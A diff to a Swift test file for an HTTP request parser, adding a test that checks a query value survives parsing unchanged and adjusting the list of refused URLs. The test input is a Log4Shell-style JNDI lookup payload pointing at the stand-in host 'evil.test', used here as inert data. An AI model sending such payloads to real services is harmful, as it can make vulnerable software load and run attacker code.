@@ -149,7 +149,13 @@ import Glibc
         #expect(parsed.head.authority.map { Array(parsed.head.storage[$0]) } == Array(ExampleRequest.host.utf8))
     }
 
-    @Test(arguments: ["ftp:/x", "/a b", "http:///x"]) func badURLsAreRefused(_ url: String) {
+    @Test func schemeInsideTheQueryIsData() throws {
+        let parsed = try ExplainRequest.url("/?x=${jndi:ldap://evil.test/a}").get()
+        #expect(Array(parsed.head.storage[parsed.head.target]) == Array("/?x=${jndi:ldap://evil.test/a}".utf8))
+        #expect(parsed.head.authority.map { Array(parsed.head.storage[$0]) } == Array(ExampleRequest.host.utf8))
+    }
+
+    @Test(arguments: ["ftp://x/", "x/y", "/a b", "http:///x"]) func badURLsAreRefused(_ url: String) {
         #expect(throws: ExampleRequestError.self) { try ExplainRequest.url(url).get() }
     }
 
